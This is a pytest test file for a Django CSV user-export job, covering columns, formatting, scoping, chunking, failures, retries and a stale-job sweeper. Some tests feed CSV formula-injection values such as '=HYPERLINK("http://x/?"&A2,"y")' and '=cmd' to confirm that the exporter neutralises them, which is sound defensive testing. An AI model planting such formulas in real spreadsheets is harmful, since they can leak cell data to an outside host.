"""The export job, run in this process: what the file holds, and how a run ends."""

from datetime import timedelta

import pytest
from django.utils import timezone

from exports import services
from exports.models import EXPORT_JOBS, ExportJob
from groups.models import GroupMembership
from kaizala_portal import jobs
from users.models import OrganizationUser

from ..factories import (
    AttributeDefinitionFactory,
    GroupFactory,
    GroupMembershipFactory,
    OrganizationUserFactory,
    UserFactory,
)
from .conftest import by_phone, error_log_rows, rows_of, run, stored_files


def test_the_file_has_the_template_columns_then_the_read_only_ones(request_export, organization, org_admin, attributes):
    job = run(request_export())
    assert job.status == ExportJob.Status.COMPLETED
    assert rows_of(job)[0] == [
        "Name",
        "Phone Number",
        "Employee ID (mandatory)",
        "Grade",
        "Joined",
        "Contractor",
        "Notes",
        "Role",
        "Groups",
        "Source",
        "Date added (UTC)",
    ]


def test_each_user_is_a_row_with_values_as_the_import_reads_them(
    request_export, organization, org_admin, attributes, via_group_member
):
    a = attributes
    added_at = timezone.now().replace(year=2024, month=3, day=1, hour=9, minute=30)
    kavya = OrganizationUserFactory(
        organization=organization,
        name="Kavya Iyer",
        user=UserFactory(phone_number="+919812300001"),
        added_at=added_at,
        attribute_values={
            a["employee_id"].key: "E-1",
            a["grade"].key: 4.5,
            a["joined"].key: "2024-03-01T09:30",
            a["contractor"].key: False,
        },
    )
    GroupMembershipFactory(group=GroupFactory(organization=organization, name="Sales"), user=kavya.user)
    # A dynamic group picked her among the organization's users: listed among her groups, no way in.
    finance = GroupFactory(organization=organization, name="Zeta finance", rule={"match": "all", "conditions": []})
    GroupMembershipFactory(group=finance, user=kavya.user)
    job = run(request_export())

    rows = by_phone(rows_of(job))
    assert rows["'+919812300001"] == [
        "Kavya Iyer",
        "'+919812300001",
        "E-1",
        "4.5",
        "2024-03-01T09:30",
        "No",
        "",
        "Member",
        "Sales, Zeta finance",
        "Added directly, Via group Sales",
        "2024-03-01 09:30",
    ]
    assert rows["'+919700000099"][-4:-1] == ["Member", "Field Team (admin)", "Via group Field Team"]
    assert rows[f"'{org_admin.phone_number}"][-4] == "Organization admin"
    assert (job.total_rows, job.rows_done) == (3, 3)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1 (call me)", "'+1 (call me)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'=already guarded", "''=already guarded"),
        ("it's = fine", "it's = fine"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_text_a_spreadsheet_would_run_is_guarded(request_export, organization, org_admin, attributes, text, cell):
    OrganizationUserFactory(
        organization=organization,
        name=text,
        user=UserFactory(phone_number="+919812300001"),
        attribute_values={attributes["notes"].key: text},
    )
    row = by_phone(rows_of(run(request_export())))["'+919812300001"]
    assert row[0] == cell and row[6] == cell


def test_an_attribute_named_like_a_formula_is_text_in_the_header(request_export, organization, org_admin):
    AttributeDefinitionFactory(organization=organization, name='=HYPERLINK("http://x/?"&A2,"y")')
    header = rows_of(run(request_export()))[0]
    assert '\'=HYPERLINK("http://x/?"&A2,"y")' in header
    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@"))]


def test_group_names_that_look_like_formulas_are_guarded_too(request_export, organization, org_admin):
    GroupMembershipFactory(group=GroupFactory(organization=organization, name="=cmd"), user=org_admin)
    row = by_phone(rows_of(run(request_export())))[f"'{org_admin.phone_number}"]
    assert row[-3:-1] == ["'=cmd", "Added directly, Via group =cmd"]


def test_negative_numbers_stay_numbers(request_export, organization, org_admin, attributes):
    OrganizationUserFactory(
        organization=organization,
        user=UserFactory(phone_number="+919812300001"),
        attribute_values={attributes["grade"].key: -5},
    )
    assert by_phone(rows_of(run(request_export())))["'+919812300001"][3] == "-5"


def test_a_date_stored_at_midnight_exports_as_the_date_it_is(request_export, organization, org_admin, attributes):
    joined = attributes["joined"].key
    for phone, value in [("+919812300001", "2024-01-02T00:00"), ("+919812300002", "2024-01-02T09:30")]:
        OrganizationUserFactory(organization=organization, user__phone_number=phone, attribute_values={joined: value})
    rows = by_phone(rows_of(run(request_export())))
    assert rows["'+919812300001"][4] == "2024-01-02"
    assert rows["'+919812300002"][4] == "2024-01-02T09:30"


def test_a_scoped_export_holds_only_the_users_the_list_showed(
    request_export, organization, org_admin, attributes, member, outsider_member, other_org_member
):
    grade = attributes["grade"]
    for name, value in [("Liam One", 3), ("Liam Two", 9), ("Noah Three", 9)]:
        OrganizationUserFactory(organization=organization, name=name, attribute_values={grade.key: value})
    job = run(request_export(scope=f"q=liam&a{grade.pk}_min=5"))
    assert [row[0] for row in rows_of(job)[1:]] == ["Liam Two"]
    assert job.scope_description == "Users matching “liam”, filtered by Grade at least “5”"

    everyone = run(request_export())
    assert everyone.scope_description == "All users"
    expected = set(OrganizationUser.objects.filter(organization=organization).values_list("name", flat=True))
    assert {row[0] for row in rows_of(everyone)[1:]} == expected


def test_rows_come_in_id_order_in_chunks_and_progress_is_saved(request_export, organization, org_admin, settings):
    settings.EXPORT_CHUNK_SIZE = 3
    settings.EXPORT_PROGRESS_SECONDS = 0
    OrganizationUserFactory.create_batch(10, organization=organization)
    job = run(request_export())
    ids = OrganizationUser.objects.filter(organization=organization).order_by("pk")
    assert [row[1] for row in rows_of(job)[1:]] == [f"'{m.user.phone_number}" for m in ids]
    assert (job.rows_done, job.total_rows, job.attempts, job.claimed_by) == (11, 11, 1, "")


def test_group_memberships_are_read_per_chunk_not_per_user(
    request_export, organization, org_admin, settings, django_assert_max_num_queries
):
    settings.EXPORT_CHUNK_SIZE = 1000
    settings.EXPORT_PROGRESS_SECONDS = 3600
    group = GroupFactory(organization=organization)
    for membership in OrganizationUserFactory.create_batch(30, organization=organization):
        GroupMembershipFactory(group=group, user=membership.user, role=GroupMembership.Role.MEMBER)
    job = request_export()
    with django_assert_max_num_queries(23):  # a fixed number: none per user or per group
        run(job)
    assert len(rows_of(job)) == 32


def test_the_file_is_kept_privately_under_an_unguessable_name(request_export, organization, org_admin, settings):
    job = run(request_export())
    assert job.file_name.startswith("contoso-users-") and job.file_name.endswith(".csv")
    assert job.file.name == f"exports/{organization.pk}/{job.finished_at:%Y/%m}/{job.token}.csv"
    assert stored_files(settings) == [job.file.name]


def test_a_requester_who_is_no_longer_an_admin_gets_no_file(request_export, organization, org_admin, settings):
    job = request_export()
    OrganizationUser.objects.filter(user=org_admin).update(role=OrganizationUser.Role.MEMBER)
    job = run(job)
    assert job.status == ExportJob.Status.FAILED
    assert job.failure_reason == f"{org_admin} may no longer export the users of Contoso."
    assert not job.file and stored_files(settings) == [job.error_log.name]  # why, and no file


def test_an_unexpected_error_fails_the_job_and_leaves_no_file(
    request_export, organization, org_admin, settings, monkeypatch
):
    def broken(*args, **kwargs):
        yield [["half", "a", "chunk"]]
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(services, "export_rows", broken)
    job = run(request_export())
    assert job.status == ExportJob.Status.FAILED
    assert job.failure_reason.startswith("The export stopped on an unexpected error.")
    assert not job.file and stored_files(settings) == [job.error_log.name]
    log = error_log_rows(job)
    assert log[1][5].startswith("The export stopped on an unexpected error.")
    assert log[1][6] == "Error: RuntimeError"  # the kind of error, not its text


def test_a_run_that_lost_its_claim_stops_without_a_file(request_export, organization, org_admin, settings, monkeypatch):
    settings.EXPORT_CHUNK_SIZE = 1
    settings.EXPORT_PROGRESS_SECONDS = 0
    OrganizationUserFactory.create_batch(3, organization=organization)
    job = request_export()
    real_rows = services.export_rows

    def taken_over_midway(*args, **kwargs):
        for number, rows in enumerate(real_rows(*args, **kwargs)):
            if number == 1:
                ExportJob.objects.filter(pk=job.pk).update(claimed_by="another-run")
            yield rows

    monkeypatch.setattr(services, "export_rows", taken_over_midway)
    job = run(job)
    assert (job.status, job.claimed_by) == (ExportJob.Status.QUEUED, "another-run")
    assert stored_files(settings) == []


def test_a_retried_job_writes_its_file_again_from_the_start(request_export, organization, org_admin, settings):
    OrganizationUserFactory.create_batch(4, organization=organization)
    job = request_export()
    # What a killed run leaves: a claim gone quiet, progress, and half a file.
    ExportJob.objects.filter(pk=job.pk).update(
        claimed_by="dead-run", attempts=1, rows_done=2, total_rows=5, heartbeat_at=timezone.now() - timedelta(hours=1)
    )
    services.work_dir().mkdir(parents=True, exist_ok=True)
    (services.work_dir() / f"{job.token}-1.csv").write_text("Name,Phone Number\nhalf")

    job = run(job, run_id="new-run")
    assert (job.status, job.attempts, job.rows_done, job.total_rows) == (ExportJob.Status.COMPLETED, 2, 5, 5)
    assert len(rows_of(job)) == 6
    assert stored_files(settings) == [job.file.name]


def test_a_job_held_by_a_live_run_is_left_to_it(request_export, organization, org_admin, settings):
    job = request_export()
    ExportJob.objects.filter(pk=job.pk).update(claimed_by="live-run", attempts=1, heartbeat_at=timezone.now())
    job = run(job, run_id="duplicate-delivery")
    assert (job.status, job.claimed_by, job.attempts) == (ExportJob.Status.QUEUED, "live-run", 1)


def test_a_finished_job_is_not_written_again(request_export, organization, org_admin, settings):
    job = run(request_export())
    name = job.file.name
    job = run(job, run_id="late-duplicate")
    assert (job.attempts, job.file.name) == (1, name)


class TestSweeper:
    def test_a_job_whose_worker_went_quiet_is_queued_again(self, request_export, django_capture_on_commit_callbacks):
        job = request_export()
        ExportJob.objects.filter(pk=job.pk).update(
            claimed_by="dead-run", attempts=1, heartbeat_at=timezone.now() - timedelta(minutes=10)
        )
        with django_capture_on_commit_callbacks() as callbacks:
            assert jobs.sweep(EXPORT_JOBS) == [job.pk]
        assert len(callbacks) == 1
        job.refresh_from_db()
        assert job.claimed_by == "" and job.status == ExportJob.Status.QUEUED

    def test_a_job_never_picked_up_is_queued_again(self, request_export, django_capture_on_commit_callbacks):
        job = request_export()
        ExportJob.objects.filter(pk=job.pk).update(created_at=timezone.now() - timedelta(minutes=10))
        with django_capture_on_commit_callbacks():
            assert jobs.sweep(EXPORT_JOBS) == [job.pk]

    def test_a_job_that_keeps_dying_ends_failed_and_its_half_file_goes(self, request_export, settings):
        job = request_export()
        ExportJob.objects.filter(pk=job.pk).update(
            attempts=settings.EXPORT_MAX_ATTEMPTS, heartbeat_at=timezone.now() - timedelta(hours=1)
        )
        services.work_dir().mkdir(parents=True, exist_ok=True)
        (services.work_dir() / f"{job.token}-3.csv").write_text("half")
        assert jobs.sweep(EXPORT_JOBS) == []
        job.refresh_from_db()
        assert job.status == ExportJob.Status.FAILED
        assert job.failure_reason.startswith("The export stopped 3 times without finishing (its worker was lost).")
        assert stored_files(settings) == [job.error_log.name]
        assert error_log_rows(job)[1][5] == job.failure_reason

    def test_live_and_finished_jobs_are_left_alone(self, request_export):
        live = request_export()
        ExportJob.objects.filter(pk=live.pk).update(claimed_by="live", heartbeat_at=timezone.now())
        done = run(request_export())
        ExportJob.objects.filter(pk=done.pk).update(created_at=timezone.now() - timedelta(days=1))
        assert jobs.sweep(EXPORT_JOBS) == []
